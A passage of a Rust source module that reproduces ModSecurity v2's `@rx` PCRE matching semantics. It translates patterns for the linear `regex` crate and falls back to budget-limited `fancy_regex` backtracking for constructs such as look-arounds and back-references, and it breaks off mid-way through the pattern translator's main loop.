//! The `@rx` operator's patterns: PCRE, as ModSecurity v2 compiles it, run in Rust.
//!
//! ModSecurity v2 compiles an `@rx` argument with `PCRE_DOTALL | PCRE_DOLLAR_ENDONLY`, without
//! UTF mode, and matches it once (start offset 0) on the raw bytes of the target. This module
//! gives the same answers with two engines:
//!
//! - [`Engine::Linear`]: the `regex` crate's byte API (`regex::bytes`), with Unicode off. Its
//!   running time is linear in the input whatever the pattern and input. [`translate`] rewrites
//!   the PCRE syntax into the `regex` crate's (see there for the list); nearly every Core Rule
//!   Set pattern runs here.
//! - [`Engine::Backtracking`]: `fancy_regex`, for the few patterns that need look-around,
//!   back-references, an atomic group, or a possessive quantifier whose plain form would match
//!   more. It runs in fancy-regex's byte mode ([`fancy_regex::BytesMode::Ascii`]: raw bytes,
//!   ASCII classes, so these patterns keep byte semantics too), with a backtracking budget per
//!   search that grows with the input ([`BACKTRACK_LIMIT`], [`BACKTRACK_PER_BYTE`],
//!   [`BACKTRACK_MAX`]). A search that runs out of it reports [`Found::LimitHit`]. Before it a
//!   linear *prefilter* runs: the pattern with look-arounds dropped, back-references and
//!   recursion replaced by "anything", possessive and atomic forms made plain. It matches
//!   wherever the pattern does, so when it does not match the answer is "no" without any
//!   backtracking; typical traffic never reaches fancy-regex.
//!
//! # Byte semantics
//!
//! As in PCRE without UTF mode, a pattern is a sequence of bytes: a non-ASCII character in the
//! pattern is the bytes of its UTF-8 form, each one an atom on its own (a quantifier after it
//! repeats its last byte, inside a class each byte is a member), `.` is any byte (`\n` too),
//! `\w`, `\d`, `\s`, `\b` and the POSIX classes are ASCII only (`\s` includes VT, as in
//! PCRE 8.34 and later), and `(?i)` folds ASCII letters only.
//!
//! # Semantic differences that are accepted
//!
//! Checked against libpcre 8.39 (what ModSecurity v2 links on Debian): the 265 CRS 3.3.4
//! `@rx` patterns on the 15,000 strings of the CRS 3.3.4 regression tests (raw, URL-decoded,
//! lower-cased) and 30,000 random strings made of their words and punctuation gave the same
//! answer and the same groups 0 to 9 every time. The known differences, none of which a CRS
//! pattern reaches:
//!
//! - `\Z` on the linear engine consumes the final newline it may stand before, so capture
//!   group 0 includes it, and a pattern that goes on to match that newline after `\Z` does not
//!   match.
//! - `\R` on the linear engine is not atomic: `\R\n` also matches `\r\n`.
//! - Under `(?m)`, `^` also matches at the very end after a final newline (PCRE does not).
//! - On the backtracking engine a case-insensitive back-reference whose text mixes non-ASCII
//!   bytes with ASCII letters of another case does not match (PCRE would).
//! - A search that runs out of its backtracking budget says [`Found::LimitHit`]. PCRE's limit
//!   counts per start position, this budget per search (see [`BACKTRACK_LIMIT`]), so the two
//!   give up on different inputs. ModSecurity v2 makes a PCRE limit error an operator error
//!   (the rule neither matches nor, for `!@rx`, fires, and `TX:MSC_PCRE_LIMITS_EXCEEDED` is
//!   set); the engine decides what to do with [`Found::LimitHit`].
//!
//! # Captures
//!
//! [`Pattern::captures`] gives groups 0 to 9 (ModSecurity's `capture` action puts them in
//! `TX:0` to `TX:9`). ModSecurity v2 sets `TX:n` for every `n` below the highest group that
//! took part in the match plus one (a group in that range that did not take part becomes the
//! empty string) and removes the `TX:n` above it; that is the engine's business, this module
//! reports `None` for a group that did not take part or does not exist.

use std::fmt;

/// The backtracking budget of a search on the [`Engine::Backtracking`] engine for an input of
/// up to 3 KiB (`BACKTRACK_LIMIT / BACKTRACK_PER_BYTE` bytes); longer inputs get more (see
/// [`BACKTRACK_PER_BYTE`]).
///
/// fancy-regex counts the branches it pops over the whole search, moving on to the next start
/// position included, where PCRE's match limit (ModSecurity's `SecPcreMatchLimit`: 1,500 by
/// default, 1,000 in the recommended configuration) counts match() calls for one start
/// position at a time. So the budget has to grow with the input; a fixed 100,000 would fail
/// every search of a 100 KB input, however plain.
pub const BACKTRACK_LIMIT: usize = 100_000;

/// The budget per input byte: a search gets `BACKTRACK_PER_BYTE` times the input length, at
/// least [`BACKTRACK_LIMIT`] and at most [`BACKTRACK_MAX`], rounded up to a power of 4 times
/// [`BACKTRACK_LIMIT`] (one compiled regex per step, built when first needed).
///
/// The Core Rule Set's backtracking patterns spend one to three steps per byte on ordinary
/// text; 32 leaves room for real attacks while hostile input made to backtrack (100 KB of
/// `'` for CRS 942130: quadratic) stops after about 0.15 s.
pub const BACKTRACK_PER_BYTE: usize = 32;

/// The largest backtracking budget of one search, whatever the input length: inputs over
/// about 200 KB get less than [`BACKTRACK_PER_BYTE`] per byte (still plenty for ordinary
/// text).
pub const BACKTRACK_MAX: usize = BACKTRACK_LIMIT << (2 * (BUDGET_TIERS - 1));

/// How many budgets there are: [`BACKTRACK_LIMIT`] times 1, 4, 16, 64.
const BUDGET_TIERS: usize = 4;

/// The `regex` crate's limit on the size of one compiled pattern (its `size_limit`), 64 MiB.
///
/// CRS patterns are big (up to 6 KB of alternations, many under `(?i)`); the largest of CRS
/// 3.3.4 (941160) needs 256 KiB compiled, well under the default 10 MiB, but CRS 4's generated
/// patterns are larger and a pattern over the limit would not load at all. The limit is only a
/// ceiling: a pattern takes what it needs. Patterns come from the rule files, not from the
/// input.
pub const REGEX_SIZE_LIMIT: usize = 64 << 20;

/// The `regex` crate's limit on the lazy DFA cache of one pattern (its `dfa_size_limit`),
/// 64 MiB.
///
/// With the default, 2 MiB, the lazy DFA of a big pattern that hostile input drives through
/// many states keeps clearing its cache and falls back to the slower (still linear) NFA
/// simulation. The cache grows only as far as searches need: all CRS 3.3.4 patterns run on
/// 100 KB hostile inputs leave the whole process at 13 MB.
pub const REGEX_DFA_SIZE_LIMIT: usize = 64 << 20;

/// How many capture groups [`Pattern::captures`] reports: 0 to 9, as ModSecurity's `TX:0` to
/// `TX:9`.
pub const CAPTURE_GROUPS: usize = 10;

/// A compiled @rx pattern.
#[derive(Debug, Clone)]
pub struct Pattern {
    source: String,
    translated: String,
    inner: Inner,
}

#[derive(Debug, Clone)]
enum Inner {
    Linear(regex::bytes::Regex),
    Backtracking(Box<Backtracking>),
}

#[derive(Debug, Clone)]
struct Backtracking {
    /// With a budget of [`BACKTRACK_LIMIT`].
    base: fancy_regex::Regex,
    /// With the larger budgets, built when first needed.
    larger: [std::sync::OnceLock<fancy_regex::Regex>; BUDGET_TIERS - 1],
    /// Matches wherever the pattern does (see the module documentation).
    prefilter: Option<regex::bytes::Regex>,
    why: NeedsBacktracking,
}

impl Backtracking {
    /// The regex whose budget suits an input of `len` bytes.
    fn regex(&self, translated: &str, len: usize) -> &fancy_regex::Regex {
        let wanted = len.saturating_mul(BACKTRACK_PER_BYTE);
        let mut tier = 0;
        while tier + 1 < BUDGET_TIERS && BACKTRACK_LIMIT << (2 * tier) < wanted {
            tier += 1;
        }
        match tier.checked_sub(1).and_then(|i| self.larger.get(i)) {
            Some(cell) => cell.get_or_init(|| {
                // The same pattern compiled already: only the budget differs.
                build_backtracking(translated, BACKTRACK_LIMIT << (2 * tier))
                    .unwrap_or_else(|_| self.base.clone())
            }),
            None => &self.base,
        }
    }

    /// Runs the prefilter, then fancy-regex.
    fn search<T>(
        &self,
        translated: &str,
        hay: &[u8],
        run: impl FnOnce(&fancy_regex::Regex) -> Result<Option<T>, fancy_regex::Error>,
    ) -> Result<Option<T>, Found> {
        if self.prefilter.as_ref().is_some_and(|p| !p.is_match(hay)) {
            return Ok(None);
        }
        let regex = self.regex(translated, hay.len());
        // fancy-regex is backtracking code run on hostile input: should it ever panic, that
        // search counts as one that ran out of budget rather than taking the process down.
        match std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| run(regex))) {
            Ok(Ok(found)) => Ok(found),
            // The budget, or fancy-regex's own stack limit.
            Ok(Err(_)) | Err(_) => Err(Found::LimitHit),
        }
    }
}

fn build_backtracking(
    translated: &str,
    budget: usize,
) -> Result<fancy_regex::Regex, fancy_regex::Error> {
    fancy_regex::RegexBuilder::new(translated)
        .bytes_mode(fancy_regex::BytesMode::Ascii)
        .dot_matches_new_line(true)
        .backtrack_limit(budget)
        .delegate_size_limit(REGEX_SIZE_LIMIT)
        .delegate_dfa_size_limit(REGEX_DFA_SIZE_LIMIT)
        .build()
}

/// How a pattern runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Engine {
    /// Linear-time regex crate.
    Linear,
    /// Bounded backtracking (fancy-regex with a limit).
    Backtracking,
}

/// Why a pattern could not be compiled.
#[derive(Debug, thiserror::Error)]
pub enum PatternError {
    /// The pattern uses a construct that no engine here runs, or PCRE itself rejects it.
    #[error("@rx pattern {pattern:?}: {reason}")]
    Untranslatable {
        /// The pattern as given.
        pattern: String,
        /// The construct and where it is.
        reason: NeedsBacktracking,
    },
    /// The `regex` crate rejected the translation (for instance, too big).
    #[error("@rx pattern {pattern:?}: the regex crate rejects it: {source}")]
    Linear {
        /// The pattern as given.
        pattern: String,
        /// What was given to the `regex` crate.
        translated: String,
        /// The `regex` crate's reason.
        source: regex::Error,
    },
    /// The pattern needs backtracking and fancy-regex rejected it.
    #[error("@rx pattern {pattern:?}: {reason}, and fancy-regex rejects it: {source}")]
    Backtracking {
        /// The pattern as given.
        pattern: String,
        /// What was given to fancy-regex.
        translated: String,
        /// The construct that needs backtracking.
        reason: NeedsBacktracking,
        /// fancy-regex's reason.
        source: Box<fancy_regex::Error>,
    },
}

impl PatternError {
    /// The pattern as given.
    pub fn pattern(&self) -> &str {
        match self {
            PatternError::Untranslatable { pattern, .. }
            | PatternError::Linear { pattern, .. }
            | PatternError::Backtracking { pattern, .. } => pattern,
        }
    }
}

/// The result of running a pattern.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Found {
    /// No match.
    None,
    /// A match.
    Match,
    /// The backtracking limit was hit (treated as no match by the engine, and counted).
    LimitHit,
}

impl Found {
    /// Whether this is a match (`LimitHit` is not).
    pub fn is_match(self) -> bool {
        self == Found::Match
    }
}

fn build_linear(translated: &str) -> Result<regex::bytes::Regex, regex::Error> {
    regex::bytes::RegexBuilder::new(translated)
        .unicode(false)
        .dot_matches_new_line(true)
        .size_limit(REGEX_SIZE_LIMIT)
        .dfa_size_limit(REGEX_DFA_SIZE_LIMIT)
        .build()
}

impl Pattern {
    /// Compiles a PCRE pattern with ModSecurity's @rx semantics.
    ///
    /// Tries the linear engine first ([`translate`]); a pattern that needs backtracking goes
    /// to the bounded backtracking engine.
    pub fn new(pcre: &str) -> Result<Pattern, PatternError> {
        match translate_for(pcre, Target::Linear) {
            Ok(translated) => {
                let regex = build_linear(&translated).map_err(|source| PatternError::Linear {
                    pattern: pcre.to_string(),
                    translated: translated.clone(),
                    source,
                })?;
                Ok(Pattern {
                    source: pcre.to_string(),
                    translated,
                    inner: Inner::Linear(regex),
                })
            }
            Err(why) if why.kind == Obstacle::Backtracking => {
                let untranslatable = |reason| PatternError::Untranslatable {
                    pattern: pcre.to_string(),
                    reason,
                };
                let translated =
                    translate_for(pcre, Target::Backtracking).map_err(untranslatable)?;
                let base = build_backtracking(&translated, BACKTRACK_LIMIT).map_err(|source| {
                    PatternError::Backtracking {
                        pattern: pcre.to_string(),
                        translated: translated.clone(),
                        reason: why.clone(),
                        source: Box::new(source),
                    }
                })?;
                // Without a prefilter the answers are the same, only slower.
                let prefilter = translate_for(pcre, Target::Prefilter)
                    .ok()
                    .and_then(|relaxed| build_linear(&relaxed).ok());
                Ok(Pattern {
                    source: pcre.to_string(),
                    translated,
                    inner: Inner::Backtracking(Box::new(Backtracking {
                        base,
                        larger: Default::default(),
                        prefilter,
                        why,
                    })),
                })
            }
            Err(reason) => Err(PatternError::Untranslatable {
                pattern: pcre.to_string(),
                reason,
            }),
        }
    }

    /// Which engine runs it.
    pub fn engine(&self) -> Engine {
        match self.inner {
            Inner::Linear(_) => Engine::Linear,
            Inner::Backtracking(_) => Engine::Backtracking,
        }
    }

    /// Why the pattern runs on the backtracking engine (`None` on the linear one).
    pub fn why_backtracking(&self) -> Option<&NeedsBacktracking> {
        match &self.inner {
            Inner::Linear(_) => None,
            Inner::Backtracking(bt) => Some(&bt.why),
        }
    }

    /// Whether the pattern matches anywhere in `hay`.
    pub fn find(&self, hay: &[u8]) -> Found {
        match &self.inner {
            Inner::Linear(re) => {
                if re.is_match(hay) {
                    Found::Match
                } else {
                    Found::None
                }
            }
            Inner::Backtracking(bt) => {
                let run = |re: &fancy_regex::Regex| re.is_match(hay).map(|m| m.then_some(()));
                match bt.search(&self.translated, hay, run) {
                    Ok(Some(())) => Found::Match,
                    Ok(None) => Found::None,
                    Err(limit) => limit,
                }
            }
        }
    }

    /// Like `find`, and on a match fills `groups` with capture groups 0..=9 (None for a group that did not take part); `groups` is cleared first.
    ///
    /// On a match `groups` holds exactly [`CAPTURE_GROUPS`] entries; otherwise it is empty.
    pub fn captures(&self, hay: &[u8], groups: &mut Vec<Option<Vec<u8>>>) -> Found {
        groups.clear();
        match &self.inner {
            Inner::Linear(re) => match re.captures(hay) {
                Some(caps) => {
                    groups.extend(
                        (0..CAPTURE_GROUPS).map(|i| caps.get(i).map(|m| m.as_bytes().to_vec())),
                    );
                    Found::Match
                }
                None => Found::None,
            },
            Inner::Backtracking(bt) => {
                let run = |re: &fancy_regex::Regex| {
                    re.captures(hay).map(|caps| {
                        caps.map(|caps| {
                            groups.extend(
                                (0..CAPTURE_GROUPS)
                                    .map(|i| caps.get(i).map(|m| m.as_bytes().to_vec())),
                            );
                        })
                    })
                };
                match bt.search(&self.translated, hay, run) {
                    Ok(Some(())) => Found::Match,
                    Ok(None) => Found::None,
                    Err(limit) => limit,
                }
            }
        }
    }

    /// The pattern as given (for messages).
    pub fn source(&self) -> &str {
        &self.source
    }

    /// The pattern as given to the engine that runs it (for the load report).
    pub fn translated(&self) -> &str {
        &self.translated
    }
}

/// Why [`translate`] gives no pattern for the linear engine: the first construct in the PCRE
/// pattern that it cannot run, what kind of obstacle that is, and where it stands.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NeedsBacktracking {
    /// What the construct is, e.g. "negative look-behind `(?<!`".
    pub construct: String,
    /// Its byte offset in the PCRE pattern.
    pub offset: usize,
    /// Whether a backtracking engine can run it.
    pub kind: Obstacle,
}

/// What kind of obstacle a [`NeedsBacktracking`] is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Obstacle {
    /// Look-around, back-references, recursion, conditionals, `\K`, atomic groups, and
    /// possessive quantifiers that make a difference: only a backtracking engine runs them
    /// exactly. [`Pattern::new`] gives such a pattern to fancy-regex, with a limit.
    Backtracking,
    /// PCRE accepts it but no engine here runs it (Unicode properties, `\X`, branch reset
    /// groups, backtracking control verbs, callouts). [`Pattern::new`] fails.
    Unsupported,
    /// PCRE itself rejects the pattern (a trailing backslash, an unclosed class or group, an
    /// unknown option letter, ...). [`Pattern::new`] fails, as ModSecurity would.
    Invalid,
}

impl fmt::Display for NeedsBacktracking {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let kind = match self.kind {
            Obstacle::Backtracking => "needs backtracking",
            Obstacle::Unsupported => "is not supported",
            Obstacle::Invalid => "is invalid PCRE",
        };
        write!(f, "{} at byte {} {}", self.construct, self.offset, kind)
    }
}

impl std::error::Error for NeedsBacktracking {}

/// Translates a PCRE pattern into `regex` crate syntax with the semantics above, or says it needs backtracking. Public so tests and the load report can show it.
///
/// The result is for `regex::bytes` and starts with `(?s-u)` (PCRE_DOTALL, no UTF mode).
/// What is rewritten:
///
/// - Every literal byte is written so the `regex` crate reads it as that byte: ASCII letters,
///   digits and harmless punctuation as themselves, the `regex` crate's metacharacters
///   (including `#`, `&`, `-`, `~`, which it treats specially in classes) escaped, anything
///   else as `\xHH`. So escapes that PCRE takes as the literal and the `regex` crate rejects
///   or reads otherwise (`\/`, `\'`, `\"`, `\<`, `\>` (word boundaries there), `\%`, `\@`,
///   `\ `, ...) become the literal; so do unknown letter escapes such as `\i` (PCRE without
///   `PCRE_EXTRA` takes them as the letter), and non-ASCII characters of the pattern (their
///   UTF-8 bytes).
/// - A `{` that does not start a valid quantifier (`{n}`, `{n,}`, `{n,m}`) is literal in PCRE:
///   it becomes `\{`; `}` becomes `\}`.
/// - Possessive quantifiers (`*+`, `++`, `?+`, `{n,m}+`) become the plain greedy quantifier
///   where a simple check proves that exactly equivalent: the repeated atom is one byte out
///   of a set S, and in its branch of the pattern what follows it is zero or more optional
///   single-byte repeats (`[..]*`, `x?`, `y{0,3}`, any greediness) and then something that
///   cannot start with a byte of S (and is no assertion other than `$`/`\z`). A shorter run
///   would leave a byte of S that only those optional repeats could take, and they can take
///   it just as well after the longest run; so the greedy form's first success takes the same
///   longest run the possessive one takes, and the answer and the captures are the same. Any
///   other possessive quantifier, and every atomic group, is reported as needing backtracking.
///   Their plain forms can only add matches, never remove one (atomicity only forbids
///   backtracking into the group, so every way the atomic form matches is a way the plain
///   form matches; only inside a negative look-around would that turn round, and look-arounds
///   never reach this engine), but more matches is more hits for `@rx` and fewer for `!@rx`:
///   CRS 920600 (`!@rx`, `;\s*+` followed by a class that includes white space) would let
///   `text/html; charset=utf-16` through.
/// - Escapes: `\xHH`, `\x{HH}` (over `\x{FF}`, or malformed, is invalid as in PCRE 8.34 and
///   later), `\x` with one or no digit, octal `\0`, `\012`, `\o{...}`, and
///   `\1` to `\7` (and `\10` and up) where PCRE reads them as octal (no such group yet), `\8`
///   and `\9` as digits, `\cX`, `\a`, `\e`, `\f`, `\n`, `\r`, `\t` all become byte literals;
///   `\h`, `\H`, `\v`, `\V` (PCRE's horizontal and vertical space classes; `\v` is not VT)
///   become classes; `\N` is `[^\n]`, `\C` any byte, `\R` `(?:\r\n|[\n\x0B\f\r\x85])`; `\A`,
///   `\z`, `\b`, `\B` stay; `\G` is `\A` (ModSecurity searches once from offset 0); `\Z`
///   becomes `(?:\n?\z)`; `\Q...\E` quotes; a lone `\E` is dropped.
/// - `$` outside `(?m)` is `\z` (PCRE_DOLLAR_ENDONLY), inside `(?m)` it is `(?m:$)`.
/// - Classes: a `[` that PCRE takes as a literal becomes `\[`, `&`, `-` (when not a range),
///   `~`, `^` (when not first) are escaped so no set operation appears, a `-` after a class
///   escape such as `\d` is literal, `]` first is literal, POSIX classes `[:alpha:]` and
///   `[:^alpha:]` stay (same ASCII meaning), `\b` inside a class is backspace.
/// - Groups: named groups `(?<name>...)`, `(?'name'...)`, `(?P<name>...)` become plain
///   capturing groups (same numbers); comments `(?#...)` are dropped; option settings
///   `(?imsxUXJ-imsxUXJ)` and `(?i:...)` keep `i`, `m`, `s`, `U` and their scope; `x` is
///   carried out here (white space and `#` comments outside classes are dropped), as the
///   `regex` crate's `x` would also drop white space inside classes.
///
/// Errors: [`NeedsBacktracking`] names the first construct that the linear engine cannot run,
/// with its [`Obstacle`] kind.
pub fn translate(pcre: &str) -> Result<String, NeedsBacktracking> {
    translate_for(pcre, Target::Linear)
}

/// Which engine a translation is for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Target {
    /// `regex::bytes` with Unicode off, exactly: no backtracking constructs.
    Linear,
    /// fancy-regex in `BytesMode::Ascii`: look-around, back-references, atomic groups and
    /// possessive quantifiers are kept.
    Backtracking,
    /// `regex::bytes`, matching wherever the pattern matches (and maybe elsewhere): the
    /// prefilter of a backtracking pattern.
    Prefilter,
}

fn translate_for(pcre: &str, target: Target) -> Result<String, NeedsBacktracking> {
    // Named back-references may point forward, so a first pass collects the group names.
    let names = if target == Target::Backtracking {
        let mut first = Translator::new(pcre.as_bytes(), target, Vec::new());
        first.collect_only = true;
        first.run()?;
        first.names
    } else {
        Vec::new()
    };
    let mut tr = Translator::new(pcre.as_bytes(), target, names);
    tr.run()?;
    match tr.unproven {
        Some(why) if target == Target::Linear => Err(why),
        _ => Ok(tr.out),
    }
}

/// The option letters that matter here, for the current group.
#[derive(Debug, Clone, Copy)]
struct Flags {
    /// `(?i)`.
    caseless: bool,
    /// `(?s)`: `.` matches `\n` (on by default: PCRE_DOTALL).
    dotall: bool,
    /// `(?m)`: `$` is an end of line.
    multiline: bool,
    /// `(?x)`: white space and `#` comments outside classes are dropped.
    extended: bool,
    /// `(?X)`: an unknown letter escape is an error.
    extra: bool,
}

/// The longest PCRE quantifier bound.
const MAX_REPEAT: u32 = 65_535;

/// A byte that PCRE's extended mode takes as white space.
fn is_pcre_space(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | 0x0b | 0x0c | b'\r')
}

/// The POSIX class names PCRE knows (the `regex` crate knows the same ones, with the same
/// ASCII meaning), with their members.
/// Whether a byte is in a class.
type Membership = fn(u8) -> bool;

const POSIX_CLASSES: [(&str, Membership); 14] = [
    ("alpha", |b| b.is_ascii_alphabetic()),
    ("lower", |b| b.is_ascii_lowercase()),
    ("upper", |b| b.is_ascii_uppercase()),
    ("alnum", |b| b.is_ascii_alphanumeric()),
    ("ascii", |b| b.is_ascii()),
    ("blank", |b| b == b' ' || b == b'\t'),
    ("cntrl", |b| b < 0x20 || b == 0x7f),
    ("digit", |b| b.is_ascii_digit()),
    ("graph", |b| b.is_ascii_graphic()),
    ("print", |b| b.is_ascii_graphic() || b == b' '),
    ("punct", |b| b.is_ascii_punctuation()),
    ("space", is_space),
    ("word", is_word),
    ("xdigit", |b| b.is_ascii_hexdigit()),
];

/// `\s`: PCRE 8.34 and later, and the `regex` crate without Unicode (VT included).
fn is_space(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | 0x0b | 0x0c | b'\r')
}

/// `\w`.
fn is_word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// PCRE's `\h` (horizontal space) without UTF mode: TAB, space, NBSP.
const HSPACE: &str = r"\t \xA0";
/// PCRE's `\v` (vertical space) without UTF mode: LF, VT, FF, CR, NEL.
const VSPACE: &str = r"\n\x0B\f\r\x85";

fn is_hspace(b: u8) -> bool {
    matches!(b, b'\t' | b' ' | 0xa0)
}

fn is_vspace(b: u8) -> bool {
    matches!(b, b'\n' | 0x0b | 0x0c | b'\r' | 0x85)
}

/// A set of bytes.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
struct ByteSet([u64; 4]);

impl ByteSet {
    fn of(pred: impl Fn(u8) -> bool) -> ByteSet {
        let mut set = ByteSet::default();
        for b in 0..=255u8 {
            if pred(b) {
                set.insert(b);
            }
        }
        set
    }

    fn single(b: u8) -> ByteSet {
        let mut set = ByteSet::default();
        set.insert(b);
        set
    }

    fn all() -> ByteSet {
        ByteSet([u64::MAX; 4])
    }

    fn insert(&mut self, b: u8) {
        self.0[usize::from(b >> 6)] |= 1 << (b & 63);
    }

    fn contains(self, b: u8) -> bool {
        self.0[usize::from(b >> 6)] & (1 << (b & 63)) != 0
    }

    fn insert_range(&mut self, lo: u8, hi: u8) {
        for b in lo..=hi {
            self.insert(b);
        }
    }

    fn union(self, other: ByteSet) -> ByteSet {
        let mut out = self;
        for (a, b) in out.0.iter_mut().zip(other.0) {
            *a |= b;
        }
        out
    }

    fn complement(self) -> ByteSet {
        ByteSet(self.0.map(|w| !w))
    }

    fn intersects(self, other: ByteSet) -> bool {
        self.0.iter().zip(other.0).any(|(a, b)| a & b != 0)
    }

    /// With the other case of every ASCII letter in it.
    fn fold_case(self) -> ByteSet {
        let mut out = self;
        for b in (b'a'..=b'z').chain(b'A'..=b'Z') {
            if self.contains(b) {
                out.insert(b ^ 0x20);
            }
        }
        out
    }
}

/// What the possessive-quantifier check needs to know about one element of a sequence.
#[derive(Debug, Clone, Copy, Default)]
struct Item {
    /// The bytes a match of it can start with.
    first: ByteSet,
    /// Whether it can match the empty string.
    nullable: bool,
    /// An assertion whose truth the check cannot judge (`^`, `\b`, ...).
    opaque: bool,
    /// A single byte out of this set (before any quantifier).
    atom: Option<ByteSet>,
    /// A single-byte atom repeated from zero times: any tail of its match is a match.
    absorbing: bool,
}

impl Item {
    fn atom(set: ByteSet) -> Item {
        Item {
            first: set,
            atom: Some(set),
            ..Item::default()
        }
    }

    /// Consumes at least one byte, starting with one of `first`.
    fn consuming(first: ByteSet) -> Item {
        Item {
            first,
            ..Item::default()
        }
    }

    fn opaque() -> Item {
        Item {
            opaque: true,
            nullable: true,
            ..Item::default()
        }
    }

    fn union(self, other: Item) -> Item {
        Item {
            first: self.first.union(other.first),
            nullable: self.nullable || other.nullable,
            opaque: self.opaque || other.opaque,
            atom: None,
            absorbing: false,
        }
    }
}

/// A possessive quantifier whose equivalence to the greedy one is still to be checked.
#[derive(Debug, Clone, Copy)]
struct Pending {
    /// Its item in the branch.
    index: usize,
    /// The bytes it repeats.
    set: ByteSet,
    offset: usize,
}

/// The branch being read: its items so far.
#[derive(Debug, Default)]
struct Branch {
    items: Vec<Item>,
    pending: Vec<Pending>,
}

/// An open group.
#[derive(Debug)]
struct Frame {
    /// The flags in force outside the group.
    outer_flags: Flags,
    /// Offset of its `(`.
    offset: usize,
    /// The enclosing branch, continued after the group.
    outer: Branch,
    /// The union of the group's finished branches.
    alternatives: Option<Item>,
    /// Prefilter look-around: the output from here on is dropped at `)`.
    discard_from: Option<usize>,
    /// What closes it in the output.
    close: &'static str,
}

/// One member of a character class.
enum ClassItem {
    /// A single byte (may start or end a range).
    Byte(u8),
    /// A set already written in `regex` syntax (`\d`, `[:alpha:]`, a nested class).
    Set(String, ByteSet),
    /// Nothing (`\E`, `\Q`).
    Nothing,
}

struct Translator<'p> {
    pat: &'p [u8],
    pos: usize,
    out: String,
    target: Target,
    flags: Flags,
    frames: Vec<Frame>,
    branch: Branch,
    /// Capturing groups opened so far.
    groups: usize,
    /// Group names and numbers (complete when given by a first pass).
    names: Vec<(String, usize)>,
    /// First pass: collect names, ignore unresolved references.
    collect_only: bool,
    /// Inside `\Q...\E`.
    quoting: bool,
    /// The first possessive quantifier or atomic group whose plain form may match more.
    unproven: Option<NeedsBacktracking>,
    /// The highest group number referred to (back-reference, condition, subroutine call),
    /// and where.
    highest_reference: (usize, usize),
}

fn obstacle(kind: Obstacle, construct: impl Into<String>, offset: usize) -> NeedsBacktracking {
    NeedsBacktracking {
        construct: construct.into(),
        offset,
        kind,
    }
}

fn invalid(construct: impl Into<String>, offset: usize) -> NeedsBacktracking {
    obstacle(Obstacle::Invalid, construct, offset)
}

fn unsupported(construct: impl Into<String>, offset: usize) -> NeedsBacktracking {
    obstacle(Obstacle::Unsupported, construct, offset)
}

/// Writes one literal byte so that the `regex` crate (and fancy-regex) read it as that byte,
/// inside or outside a class.
fn push_byte(out: &mut String, b: u8) {
    match b {
        b'0'..=b'9' | b'a'..=b'z' | b'A'..=b'Z' | b'_' => out.push(char::from(b)),
        b'\\' | b'.' | b'+' | b'*' | b'?' | b'(' | b')' | b'|' | b'[' | b']' | b'{' | b'}'
        | b'^' | b'$' | b'#' | b'&' | b'-' | b'~' => {
            out.push('\\');
            out.push(char::from(b));
        }
        0x20..=0x7e => out.push(char::from(b)),
        // Two digits: `\x{HH}` is a code point to the regex crate, `\xHH` a byte.
        _ => out.push_str(&format!("\\x{b:02X}")),
    }
}

impl<'p> Translator<'p> {
    fn new(pat: &'p [u8], target: Target, names: Vec<(String, usize)>) -> Self {
        Translator {
            pat,
            pos: 0,
            out: String::with_capacity(pat.len() + pat.len() / 4 + 8),
            target,
            flags: Flags {
                caseless: false,
                dotall: true,
                multiline: false,
                extended: false,
                extra: false,
            },
            frames: Vec::new(),
            branch: Branch::default(),
            groups: 0,
            names,
            collect_only: false,
            quoting: false,
            unproven: None,
            highest_reference: (0, 0),
        }
    }

    fn peek(&self, ahead: usize) -> Option<u8> {
        self.pat.get(self.pos + ahead).copied()
    }

    fn rest(&self) -> &'p [u8] {
        self.pat.get(self.pos..).unwrap_or(&[])
    }

    /// A construct only a backtracking engine runs exactly: an error for the linear target.
    fn backtracking_only(&self, construct: &str, offset: usize) -> Result<(), NeedsBacktracking> {
        match self.target {
            Target::Linear => Err(obstacle(Obstacle::Backtracking, construct, offset)),
            Target::Backtracking | Target::Prefilter => Ok(()),
        }
    }

    /// A construct whose plain form may match more: the linear translation goes on (to find
    /// invalid syntax further on) but will be refused.
    fn widening(&mut self, construct: &str, offset: usize) {
        if self.unproven.is_none() {
            self.unproven = Some(obstacle(Obstacle::Backtracking, construct, offset));
        }
    }

    fn fold(&self, set: ByteSet) -> ByteSet {
        if self.flags.caseless {
            set.fold_case()
        } else {
            set
        }
    }

    /// A literal byte.
    fn literal(&mut self, b: u8) {
        push_byte(&mut self.out, b);
        let set = self.fold(ByteSet::single(b));
        self.branch.items.push(Item::atom(set));
    }

    /// Output that matches one byte out of `set` (already case-folded where it applies).
    fn one_of(&mut self, text: &str, set: ByteSet) {
        self.out.push_str(text);
        self.branch.items.push(Item::atom(set));
    }

    fn item(&mut self, text: &str, item: Item) {
        self.out.push_str(text);
        self.branch.items.push(item);
    }

    fn run(&mut self) -> Result<(), NeedsBacktracking> {
        self.out.push_str(match self.target {
            Target::Linear | Target::Prefilter => "(?s-u)",
            Target::Backtracking => "(?s)",
        });
        while self.pos < self.pat.len() {
            if self.quoting {
                if self.rest().starts_with(b"\\E") {
                    self.quoting = false;
                    self.pos += 2;
                } else {
                    self.literal(self.pat[self.pos]);
                    self.pos += 1;
                }
                continue;
            }
            let c = self.pat[self.pos];
            if self.flags.extended {
                if is_pcre_space(c) {
                    self.pos += 1;
                    continue;
                }
                if c == b'#' {
                    while let Some(b) = self.peek(0) {
                        self.pos += 1;
                        if b == b'\n' {
                            break;
                        }
                    }
                    continue;
                }
            }
            match c {
                b'\\' => self.escape()?,
                b'[' => self.class()?,
                b'(' => self.open_group()?,
                b')' => self.close_group()?,
                b'|' => {
                    let summary = self.finish_branch();
                    if let Some(frame) = self.frames.last_mut() {
                        frame.alternatives = Some(match frame.alternatives {
                            Some(alt) => alt.union(summary),
                            None => summary,
                        });
                    }
                    self.out.push('|');
                    self.pos += 1;
                }
